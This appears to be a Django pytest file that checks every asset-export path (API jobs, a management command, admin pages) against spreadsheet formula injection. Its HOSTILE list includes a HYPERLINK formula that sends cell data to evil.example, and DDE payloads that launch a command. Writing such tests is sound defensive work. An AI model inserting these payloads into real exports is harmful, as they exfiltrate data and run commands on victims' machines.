"""Hostile text through every export door: the export jobs (API), the `export_assets` command,
the admin's asset export page and its "export selected" actions. Each writes text that starts
like a formula as text: a CSV cell gets a leading quote, an XLSX cell is never a formula."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from circulus.spreadsheet import FORMULA_TRIGGERS
from registry.importing import ASSET_COLUMNS
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def hostile_assets(db):
    par = f.site("PAR1")
    return [
        f.asset(text, at_site=par, notes=text, owner=text[:100]) for i, text in enumerate(HOSTILE)
    ]


def _check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [value for row in rows[1:] for value in row]
    for hostile in HOSTILE:
        assert "'" + hostile in cells, hostile
    assert not [v for v in cells if v and v[0] in FORMULA_TRIGGERS]


def _check_xlsx(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in values)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_job_through_the_api(
    api, hostile_assets, procurement_user, django_capture_on_commit_callbacks, fmt
):
    api.force_authenticate(procurement_user)
    with django_capture_on_commit_callbacks(execute=True):
        job = api.post("/api/exports/", {"kind": "assets", "format": fmt}, format="json").json()
    download = api.get(f"/api/exports/{job['id']}/download/")
    content = b"".join(download.streaming_content)
    _check_csv(content.decode("utf-8")) if fmt == "csv" else _check_xlsx(content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_assets_command(hostile_assets, tmp_path, fmt):
    out = tmp_path / f"assets.{fmt}"
    call_command("export_assets", "--out", str(out), stdout=io.StringIO())
    _check_csv(out.read_bytes().decode("utf-8")) if fmt == "csv" else _check_xlsx(out.read_bytes())


@pytest.mark.parametrize("fmt, choice", [("csv", "0"), ("xlsx", "1")])
def test_admin_export_page(admin_client, hostile_assets, fmt, choice):
    response = admin_client.post(
        "/admin/registry/asset/export/",
        {"format": choice, "resource": "0", **{f"assetresource_{c}": "on" for c in ASSET_COLUMNS}},
    )
    assert response.status_code == 200
    _check_csv(response.content.decode()) if fmt == "csv" else _check_xlsx(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_export_selected_action(admin_client, hostile_assets, fmt):
    response = admin_client.post(
        "/admin/registry/asset/",
        {
            "action": f"export_selected_{fmt}",
            "_selected_action": [a.pk for a in hostile_assets],
        },
    )
    content = b"".join(response.streaming_content)
    _check_csv(content.decode("utf-8")) if fmt == "csv" else _check_xlsx(content)
